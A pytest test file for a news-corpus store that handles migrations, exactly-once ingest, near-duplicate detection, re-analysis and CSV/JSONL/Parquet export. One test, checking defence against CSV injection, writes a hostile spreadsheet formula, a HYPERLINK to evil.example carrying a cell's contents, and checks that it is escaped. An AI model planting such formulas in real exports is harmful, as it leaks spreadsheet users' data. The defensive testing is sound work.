"""The corpus store: schema and migrations, exactly-once ingest, near-duplicates, re-analysis, exports."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import random
import shutil
import sqlite3
import sys
from pathlib import Path

import jsonschema
import pytest

from narrascope.catalogue import parse_catalogue
from narrascope.errors import StoreError
from narrascope.ingest.records import make_document
from narrascope.schema import analysis_schema
from narrascope.settings import DEFAULT
from narrascope.store import (
    MIGRATIONS,
    SCHEMA_VERSION,
    TABLES,
    IngestReport,
    Store,
    Versions,
    export,
    ingest,
    neardup,
    reanalyse,
    schema,
)
from narrascope.store import db as store_db
from narrascope.terminal import ProgressLine

HERE = Path(__file__).resolve().parent
SAMPLE = HERE.parent / "examples" / "sample"
EMPTY = HERE / "resources" / "empty.txt"
ORIGINAL = (SAMPLE / "en_isis_afghanistan.txt").read_text(encoding="utf-8")
UNRELATED = (SAMPLE / "en_offtopic_bakery.txt").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def sample_db(tmp_path_factory, analyser) -> tuple[Path, IngestReport]:  # type: ignore[no-untyped-def]
    """The sample folder ingested once into a store; tests that change it work on a copy."""
    path = tmp_path_factory.mktemp("store") / "sample.db"
    with Store(path) as store:
        report = ingest(store, analyser, [SAMPLE])
    return path, report


@pytest.fixture
def sample_copy(sample_db, tmp_path) -> Path:  # type: ignore[no-untyped-def]
    copy = tmp_path / "copy.db"
    shutil.copy(sample_db[0], copy)  # closed, so the WAL is checkpointed into the main file
    return copy


def table_names(conn: sqlite3.Connection) -> set[str]:
    return {name for (name,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}


# --- schema and migrations ------------------------------------------------------------------

def test_a_new_store_has_every_table_at_the_latest_schema_version_in_wal_mode(tmp_path: Path) -> None:
    with Store(tmp_path / "new.db") as store:
        assert store.schema_version == SCHEMA_VERSION == len(MIGRATIONS)
        assert set(TABLES) <= table_names(store.connection)
        assert store.connection.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        assert store.connection.execute("PRAGMA application_id").fetchone()[0] == schema.APPLICATION_ID
        assert set(store.counts().values()) == {0}


def test_opening_an_old_store_applies_the_missing_migrations_and_keeps_its_rows(tmp_path: Path) -> None:
    path = tmp_path / "old.db"
    conn = sqlite3.connect(path)
    conn.executescript(MIGRATIONS[0] + "\nPRAGMA user_version = 1;")
    conn.execute("INSERT INTO articles (article_id, text, content_hash, ingested_at) VALUES ('a', 'x', 'h', 'now')")
    conn.commit()
    conn.close()
    with Store(path) as store:
        assert store.schema_version == SCHEMA_VERSION
        assert {"stories", "story_members"} <= table_names(store.connection)
        assert [a.article_id for a in store.articles()] == ["a"]


def test_migration_4_indexes_the_articles_an_older_store_holds_for_search(tmp_path: Path) -> None:
    path = tmp_path / "v3.db"
    conn = sqlite3.connect(path)
    conn.executescript("\n".join(MIGRATIONS[:3]) + "\nPRAGMA user_version = 3;")
    conn.execute("INSERT INTO articles (article_id, title, text, content_hash, ingested_at)"
                 " VALUES ('a', 'Ferry news', 'The ferry to Tallinn was cancelled.', 'h', 'now')")
    conn.commit()
    conn.close()
    with Store(path) as store:
        found = store.connection.execute("SELECT rowid FROM articles_fts WHERE articles_fts MATCH 'tallinn'")
        assert [r for (r,) in found] == [1]
        store.connection.execute("UPDATE articles SET text = 'The ferry to Riga sails.' WHERE id = 1")
        assert not store.connection.execute("SELECT 1 FROM articles_fts WHERE articles_fts MATCH 'tallinn'").fetchall()
        assert store.connection.execute("SELECT 1 FROM articles_fts WHERE articles_fts MATCH 'riga'").fetchall()
        store.connection.execute("DELETE FROM articles WHERE id = 1")
        assert not store.connection.execute("SELECT 1 FROM articles_fts WHERE articles_fts MATCH 'riga'").fetchall()


@pytest.mark.parametrize("made_by", ["main (6)", "claims as events (7)", "the scale branch's old 7"])
def test_stores_at_6_and_at_either_branchs_7_open_with_claim_events_and_story_items(tmp_path: Path,
                                                                                   made_by: str) -> None:
    """Issues 14 and 15 each numbered their migration 7; merged, story_items is 8. A store the scale
    branch wrote at its 7 (story_items, no claim events) gets the event columns on the way to 8."""
    path = tmp_path / "v7.db"
    conn = sqlite3.connect(path)
    scripts = {"main (6)": MIGRATIONS[:6], "claims as events (7)": MIGRATIONS[:7],
               "the scale branch's old 7": (*MIGRATIONS[:6], MIGRATIONS[7])}[made_by]
    conn.executescript("\n".join(scripts) + f"\nPRAGMA user_version = {len(scripts)};")
    conn.execute("INSERT INTO articles (article_id, text, content_hash, ingested_at) VALUES ('a', 'x', 'h', 'now')")
    conn.commit()
    conn.close()
    with Store(path) as store:
        assert store.schema_version == SCHEMA_VERSION
        columns = {row[1] for row in store.connection.execute("PRAGMA table_info(claims)")}
        assert {"event", "route"} <= columns
        assert "story_items" in table_names(store.connection)
        assert [a.article_id for a in store.articles()] == ["a"]


def test_migration_9_gives_a_store_at_8_the_story_aliases_and_keeps_its_stories(tmp_path: Path) -> None:
    """Story ids renamed after it (a merge, a regroup) resolve through ``story_aliases``; ids already stored stay."""
    path = tmp_path / "v8.db"
    conn = sqlite3.connect(path)
    conn.executescript("\n".join(MIGRATIONS[:8]) + "\nPRAGMA user_version = 8;")
    conn.execute("INSERT INTO stories (id, label, created_at, data) VALUES ('story-a-3', 'A', 'now', '{}')")
    conn.commit()
    conn.close()
    with Store(path) as store:
        assert store.schema_version == SCHEMA_VERSION >= 9
        assert "story_aliases" in table_names(store.connection)
        assert [s for (s,) in store.connection.execute("SELECT id FROM stories")] == ["story-a-3"]


def test_a_store_written_by_a_newer_narrascope_is_refused_with_e501(tmp_path: Path) -> None:
    path = tmp_path / "future.db"
    Store(path).close()
    with sqlite3.connect(path) as conn:
        conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    with pytest.raises(StoreError, match="newer narrascope") as err:
        Store(path)
    assert err.value.code == "E501"


@pytest.mark.parametrize("make", [
    lambda p: p.write_text("just text, not a database"),
    lambda p: sqlite3.connect(p).execute("CREATE TABLE someone_elses (x)").connection.commit(),
])
def test_a_file_that_is_not_a_store_is_refused_with_e502(tmp_path: Path, make) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "other.db"
    make(path)
    with pytest.raises(StoreError) as err:
        Store(path)
    assert err.value.code == "E502"


def test_a_failed_migration_leaves_the_store_at_the_last_good_version(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "s.db"
    Store(path).close()
    monkeypatch.setattr(schema, "MIGRATIONS", (*MIGRATIONS, "CREATE TABLE half_done (x); CREATE TABLE (;"))
    monkeypatch.setattr(schema, "SCHEMA_VERSION", SCHEMA_VERSION + 1)
    with pytest.raises(StoreError) as err:
        Store(path)
    assert err.value.code == "E504"
    with sqlite3.connect(path) as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
        assert "half_done" not in table_names(conn)


def test_export_and_reanalyse_do_not_create_a_missing_store(tmp_path: Path) -> None:
    with pytest.raises(StoreError) as err:
        Store(tmp_path / "missing.db", create=False)
    assert err.value.code == "E503" and not (tmp_path / "missing.db").exists()


def test_a_store_locked_by_another_writer_past_the_busy_timeout_is_e506(tmp_path: Path) -> None:
    path = tmp_path / "s.db"
    Store(path).close()
    other = sqlite3.connect(path, isolation_level=None)
    other.execute("BEGIN IMMEDIATE")  # another process in the middle of its batch, for too long
    try:
        with Store(path, settings=dataclasses.replace(DEFAULT, store_busy_seconds=1)) as store, \
                pytest.raises(StoreError) as err:
            store.add_article(make_document("a", ORIGINAL, source="a.txt"))
        assert err.value.code == "E506" and "locked" in err.value.message
    finally:
        other.close()


def test_a_transaction_that_fails_stores_nothing(tmp_path: Path) -> None:
    with Store(tmp_path / "t.db") as store:
        with pytest.raises(RuntimeError), store.transaction():
            store.add_article(make_document("a", ORIGINAL, source="a.txt"))
            raise RuntimeError("killed halfway")
        assert store.counts()["articles"] == 0


def test_a_failed_inner_transaction_keeps_the_outer_ones_work(tmp_path: Path) -> None:
    with Store(tmp_path / "t.db") as store:
        with store.transaction():
            store.add_article(make_document("kept", ORIGINAL, source="a.txt"))
            with pytest.raises(RuntimeError), store.transaction():
                store.add_article(make_document("dropped", UNRELATED, source="b.txt"))
                raise RuntimeError
        assert [a.article_id for a in store.articles()] == ["kept"]


# --- ingest: exactly once, idempotent --------------------------------------------------------

def test_ingest_of_the_sample_stores_each_article_once_with_its_analysis(sample_db, analyser) -> None:  # type: ignore[no-untyped-def]
    path, report = sample_db
    assert (report.new, report.already, report.failures) == (47, 0, [])
    with Store(path) as store:
        counts = store.counts()
        assert counts["articles"] == counts["analyses"] == 47
        articles = list(store.articles())
        assert len({a.content_hash for a in articles}) == 47
        assert {a.language for a in articles} >= {"en", "ru", "de", "fr", "uk", "es", "ar"}
        assert store.stale(Versions.current(analyser.catalogue)) == []


def test_reingesting_the_same_files_adds_nothing_and_says_so(sample_copy, analyser) -> None:  # type: ignore[no-untyped-def]
    with Store(sample_copy) as store:
        before = store.connection.execute("SELECT article, analysed_at FROM analyses ORDER BY article").fetchall()
        report = ingest(store, analyser, [SAMPLE])
        assert report.summary() == "0 new, 47 already stored"
        assert store.counts()["articles"] == 47
        assert store.connection.execute("SELECT article, analysed_at FROM analyses ORDER BY article").fetchall() \
            == before


def test_the_same_text_twice_in_one_run_is_stored_once(tmp_path: Path, analyser) -> None:  # type: ignore[no-untyped-def]
    for name in ("a.txt", "b.txt"):
        (tmp_path / name).write_text(ORIGINAL, encoding="utf-8")
    with Store(tmp_path / "s.db") as store:
        report = ingest(store, analyser, [tmp_path / "a.txt", tmp_path / "b.txt"])
        assert (report.new, report.already) == (1, 1)


def test_the_query_tables_hold_exactly_what_each_analysis_says(sample_db) -> None:  # type: ignore[no-untyped-def]
    with Store(sample_db[0]) as store:
        conn = store.connection
        for row, record in store.analyses():
            def count(table: str, row: int = row) -> int:
                return int(conn.execute(f"SELECT count(*) FROM {table} WHERE article = ?", (row,)).fetchone()[0])

            assert count("narrative_matches") == len(record["narratives"])
            assert count("claims") == len(record["claims"])
            assert count("sources") == len(record["sources"])
            assert count("techniques") == len(record["techniques"])
            matched = {n for (n,) in conn.execute(
                "SELECT narrative FROM narrative_matches WHERE article = ? AND matched", (row,))}
            assert matched == {n["id"] for n in record["narratives"] if n["matched"]}
        assert conn.execute("SELECT count(*) FROM claims WHERE destination IS NOT NULL").fetchone()[0] > 0


def test_a_bad_file_among_the_inputs_is_a_failure_and_the_others_are_stored(tmp_path: Path, analyser) -> None:  # type: ignore[no-untyped-def]
    seen = []
    with Store(tmp_path / "s.db") as store:
        report = ingest(store, analyser, [EMPTY, SAMPLE / "de_sanktionen.txt"], on_failure=seen.append)
        assert report.new == 1 and [f.code for f in report.failures] == ["E101"] and seen == report.failures
        assert [a.article_id for a in store.articles()] == ["de_sanktionen"]


# --- near-duplicates -------------------------------------------------------------------------

def lightly_edited(text: str) -> str:
    """A recycled copy: a few words changed, a sentence dropped, the spacing redone."""
    sentences = text.split(". ")
    edited = ". ".join(sentences[:-1]).replace("Syria", "Syrian Arab Republic").replace("night", "dark")
    return "  ".join(edited.split(" "))


def test_a_lightly_edited_copy_is_linked_to_the_original_and_an_unrelated_article_is_not(tmp_path: Path) -> None:
    with Store(tmp_path / "s.db") as store:
        original = store.add_article(make_document("original", ORIGINAL, source="a.txt"))
        copy = store.add_article(make_document("copy", lightly_edited(ORIGINAL), source="b.txt", outlet="Other"))
        other = store.add_article(make_document("bakery", UNRELATED, source="c.txt"))
        assert original and copy and other
        assert copy.duplicate_of == original.row
        assert copy.similarity is not None and copy.similarity >= DEFAULT.near_duplicate_similarity
        assert original.duplicate_of is None and other.duplicate_of is None
        assert store.article(copy.row) == copy


POST = ("Breaking: a column of unmarked lorries left the border crossing near Kellerby at dawn, and drivers told "
        "our channel that the cargo was bound for the coastal depots. Officials in the capital have said nothing so "
        "far, while residents filmed the convoy as it passed the old mill. Share before it is deleted.")


def test_a_short_post_reposted_with_one_phrase_changed_is_linked_but_a_post_of_the_same_shape_is_not(
        tmp_path: Path) -> None:
    reposted = POST.replace("have said nothing so far", "keep silent about it")
    other = ("Update: a line of grey buses left the ferry terminal near Ostwick at noon, and passengers told our "
             "readers that the trip was bound for the mountain resorts. Officials in the region have said nothing "
             "so far, while tourists filmed the buses as they crossed the new bridge. Share before it is deleted.")
    assert neardup.jaccard(neardup.shingles(POST), neardup.shingles(reposted)) < DEFAULT.near_duplicate_similarity
    with Store(tmp_path / "s.db") as store:
        first = store.add_article(make_document("post", POST, source="a"))
        copy = store.add_article(make_document("repost", reposted, source="b"))
        unrelated = store.add_article(make_document("other", other, source="c"))
        assert first and copy and unrelated
        assert copy.duplicate_of == first.row and copy.similarity is not None
        assert copy.similarity >= DEFAULT.near_duplicate_word_similarity
        assert unrelated.duplicate_of is None


def test_word_similarity_counts_the_words_kept_in_order() -> None:
    assert neardup.word_similarity("one two three four", "one two three four") == 1.0
    assert neardup.word_similarity("one two three four", "one two six four") == 0.75
    assert neardup.word_similarity("one two three four", "four three two one") == 0.25  # order matters
    assert neardup.word_similarity("one two three four", "five six", at_least=0.5) == 0.0
    assert neardup.word_similarity("", "one") == 0.0


def test_a_copy_links_to_the_earliest_stored_article_of_its_cluster(tmp_path: Path) -> None:
    with Store(tmp_path / "s.db") as store:
        first = store.add_article(make_document("first", ORIGINAL, source="a"))
        second = store.add_article(make_document("second", ORIGINAL + " Updated.", source="b"))
        third = store.add_article(make_document("third", ORIGINAL + " Updated again.", source="c"))
        assert first and second and third
        assert second.duplicate_of == first.row and third.duplicate_of == first.row


def test_unrelated_articles_are_never_compared_word_by_word(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """LSH keeps the work per article small: no all-pairs comparison, so 10,000+ articles scale."""
    compared = []
    monkeypatch.setattr(store_db, "shingles", lambda text: compared.append(text) or neardup.shingles(text))
    words = UNRELATED.split() + ORIGINAL.split()
    with Store(tmp_path / "s.db") as store, store.transaction():
        for i in range(300):
            text = " ".join(random.Random(i).choices(words, k=120))  # same words, different articles
            store.add_article(make_document(f"a{i}", text, source=f"{i}"))
    assert len(compared) < 10


def test_minhash_signatures_estimate_the_jaccard_similarity() -> None:
    a, b = neardup.shingles(ORIGINAL), neardup.shingles(lightly_edited(ORIGINAL))
    estimate = float((neardup.signature(a) == neardup.signature(b)).mean())
    assert abs(estimate - neardup.jaccard(a, b)) < 0.15
    assert neardup.jaccard(a, neardup.shingles(UNRELATED)) < 0.05


def test_bucket_keys_are_the_same_in_every_process_and_version() -> None:
    """They are stored: a salted hash() or a changed numpy stream would orphan every stored key."""
    assert neardup.lsh_keys("One, two three four FIVE six!")[1][:2] == [-2990492579785238289, -3143942807119633421]


# --- incremental re-analysis -----------------------------------------------------------------

def test_a_catalogue_change_makes_every_analysis_stale(sample_db) -> None:  # type: ignore[no-untyped-def]
    other = parse_catalogue("narratives:\n  - {id: x, title: X, description: Something else entirely.}\n")
    with Store(sample_db[0]) as store:
        assert len(store.stale(Versions.current(other))) == 47


def test_new_matcher_weights_under_the_same_version_make_every_analysis_stale(sample_copy, monkeypatch,
                                                                             analyser) -> None:  # type: ignore[no-untyped-def]
    """An upgrade that refits the shipped weights (data/matcher.json) without a new version number:
    reanalyse finds every analysis stale and redoes it, rather than saying 'none stale'."""
    from narrascope import __version__
    from narrascope.store import reanalyse

    with Store(sample_copy) as store:
        assert store.stale(Versions.current(analyser.catalogue)) == []
        # analyses stored with the digest of other data files, or by a narrascope that recorded none
        store.connection.execute("UPDATE analyses SET tool_version = ? WHERE article = 2", (__version__,))
        store.connection.execute("UPDATE analyses SET tool_version = ? WHERE article = 5",
                                 (f"{__version__}+data.0123456789ab",))
        assert store.stale(Versions.current(analyser.catalogue)) == [2, 5]
        assert reanalyse(store, analyser).reanalysed == 2
        assert store.stale(Versions.current(analyser.catalogue)) == []
        monkeypatch.setattr(store_db, "data_digest", lambda: "0123456789ab")  # the package's data changes
        assert len(store.stale(Versions.current(analyser.catalogue))) == 47


def test_the_data_digest_follows_every_data_file_and_no_code_file(tmp_path: Path) -> None:
    package = tmp_path / "pkg"
    for name, content in (("data/matcher.json", "{}"), ("data/stance.npz", "x"), ("lexicon/cues/en.yaml", "a: 1"),
                          ("lexicon/entities.yaml", "b: 2"), ("lexicon/gazetteer.py", "# code")):
        (package / name).parent.mkdir(parents=True, exist_ok=True)
        (package / name).write_text(content)
    digests = {store_db.data_digest.__wrapped__(package)}
    for name, content in (("data/matcher.json", '{"bias": 1}'), ("lexicon/cues/en.yaml", "a: 2"),
                          ("lexicon/cues/fr.yaml", "c: 3")):  # refitted weights, an edited lexicon, a new one
        (package / name).write_text(content)
        digests.add(store_db.data_digest.__wrapped__(package))
    assert len(digests) == 4
    (package / "lexicon/gazetteer.py").write_text("# other code")
    assert store_db.data_digest.__wrapped__(package) in digests
    assert len(store_db.data_digest()) == 12 and store_db.data_digest() == store_db.data_digest()


def test_only_the_stale_analyses_are_redone_and_their_rows_replaced(sample_copy, analyser) -> None:  # type: ignore[no-untyped-def]
    with Store(sample_copy) as store:
        conn = store.connection
        conn.execute("UPDATE analyses SET catalogue_version = 'old', analysed_at = 'then' WHERE article IN (2, 5)")
        conn.execute("INSERT INTO narrative_matches (article, narrative, score, matched) VALUES (2, 'gone', 0.9, 1)")
        before = dict(conn.execute("SELECT article, analysed_at FROM analyses WHERE article NOT IN (2, 5)"))
        report = reanalyse(store, analyser)
        assert (report.reanalysed, report.stale) == (2, 2)
        assert store.stale(Versions.current(analyser.catalogue)) == []
        assert dict(conn.execute("SELECT article, analysed_at FROM analyses WHERE article NOT IN (2, 5)")) == before
        assert conn.execute("SELECT count(*) FROM analyses WHERE analysed_at = 'then'").fetchone()[0] == 0
        assert conn.execute("SELECT count(*) FROM narrative_matches WHERE narrative = 'gone'").fetchone()[0] == 0


def test_ingest_also_redoes_stale_analyses_unless_told_not_to(sample_copy, analyser) -> None:  # type: ignore[no-untyped-def]
    with Store(sample_copy) as store:
        store.connection.execute("UPDATE analyses SET tool_version = '0.0.1' WHERE article = 3")
        assert ingest(store, analyser, [SAMPLE], reanalyse_stale=False).reanalysed == 0
        report = ingest(store, analyser, [SAMPLE])
        assert report.summary() == "0 new, 47 already stored, 1 re-analysed"


# --- exports ---------------------------------------------------------------------------------

def test_jsonl_export_is_the_analyse_contract_one_object_per_article(sample_db, tmp_path, analyser) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "a.jsonl"
    with Store(sample_db[0]) as store:
        assert export(store, out, "jsonl") == 47
        stored = [record for _, record in store.analyses()]
    lines = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert lines == stored
    schema_ = analysis_schema()
    for record in lines:
        jsonschema.validate(record, schema_)
    fresh = {a.id: a.to_dict() for a in analyser.analyse_paths([SAMPLE])}
    assert {r["id"]: r for r in lines} == fresh


@pytest.mark.parametrize("table, db_table", [("articles", "articles"), ("claims", "claims"),
                                             ("narratives", "narrative_matches"), ("sources", "sources"),
                                             ("techniques", "techniques")])
def test_csv_export_round_trips_every_row_of_a_flat_table(sample_db, tmp_path, table, db_table) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / f"{table}.csv"
    with Store(sample_db[0]) as store:
        n = export(store, out, "csv", table)
        assert n == store.counts()[db_table]
        texts = dict(store.connection.execute("SELECT id, text FROM articles"))
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert len(rows) == n and (n == 0 or list(rows[0])[:2] == ["row", "id"])
    if table == "articles":
        assert {int(r["row"]): r["text"] for r in rows} == texts  # multi-line texts survive quoting


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """Titles, outlets, ids and texts come from the web: a cell starting with = + - @, a tab or a CR is a live
    formula in Excel or LibreOffice ("CSV injection"), so it is written after a ' (shown as text); --raw-csv
    writes the cells as stored."""
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with Store(tmp_path / "s.db") as store:
        store.add_article(make_document("@id", "-2+3 " + UNRELATED, source="\tfeed", title=hostile,
                                        outlet="+SUM(1+1)", url="https://ok.example/1"))
        export(store, tmp_path / "safe.csv", "csv", "articles")
        export(store, tmp_path / "raw.csv", "csv", "articles", raw_csv=True)
    safe, = csv.DictReader(io.StringIO((tmp_path / "safe.csv").read_text(encoding="utf-8"), newline=""))
    assert (safe["id"], safe["title"], safe["outlet"], safe["source"]) == ("'@id", "'" + hostile, "'+SUM(1+1)",
                                                                            "'\tfeed")
    assert safe["text"].startswith("'-2+3 ") and safe["url"] == "https://ok.example/1" and safe["row"] == "1"
    raw, = csv.DictReader(io.StringIO((tmp_path / "raw.csv").read_text(encoding="utf-8"), newline=""))
    assert (raw["id"], raw["title"], raw["outlet"]) == ("@id", hostile, "+SUM(1+1)")


def test_parquet_export_keeps_the_column_types(sample_db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    pq = pytest.importorskip("pyarrow.parquet")
    out = tmp_path / "n.parquet"
    with Store(sample_db[0]) as store:
        n = export(store, out, "parquet", "narratives")
    table = pq.read_table(out)
    assert table.num_rows == n > 0
    assert str(table.schema.field("score").type) == "double" and str(table.schema.field("matched").type) == "bool"


def test_parquet_without_pyarrow_says_which_extra_to_install(sample_db, tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # import fails as if it were not installed
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    with Store(sample_db[0]) as store, pytest.raises(Exception, match=r"narrascope\[parquet\]") as err:
        export(store, tmp_path / "x.parquet", "parquet", "claims")
    assert getattr(err.value, "code", None) == "E302"


def test_an_unknown_table_is_a_coded_error(sample_db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    with Store(sample_db[0]) as store, pytest.raises(StoreError) as err:
        export(store, tmp_path / "x.csv", "csv", "nope")
    assert err.value.code == "E505"


def test_an_export_file_that_cannot_be_written_is_a_coded_error(sample_db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    with Store(sample_db[0]) as store, pytest.raises(StoreError) as err:
        export(store, tmp_path / "no" / "such" / "folder.csv", "csv", "claims")
    assert err.value.code == "E507"


# --- progress --------------------------------------------------------------------------------

def test_progress_off_a_terminal_is_plain_lines() -> None:
    stream = io.StringIO()
    line = ProgressLine(stream, every_seconds=0)
    line(IngestReport(new=640, already=15))
    line(IngestReport(phase="reanalyse", reanalysed=3, stale=10))
    line.done()
    lines = stream.getvalue().splitlines()
    assert lines[0].startswith("ingest: 640 new, 15 already stored, 0 failed, ") and lines[0].endswith("/s")
    assert lines[1].startswith("reanalyse: 3/10 articles, ")


def test_processes_opening_a_new_store_at_once_all_find_it_theirs(tmp_path: Path) -> None:
    """Two ingests started together both create the store: each migration is applied once, under the lock."""
    import threading

    def open_it(path: Path, errors: list[Exception]) -> None:
        try:
            Store(path).close()
        except Exception as err:  # every failure is the finding
            errors.append(err)

    for attempt in range(5):
        path, errors = tmp_path / f"new{attempt}.db", []
        threads = [threading.Thread(target=open_it, args=(path, errors)) for _ in range(6)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert errors == []
        with Store(path) as store:
            assert store.schema_version == SCHEMA_VERSION
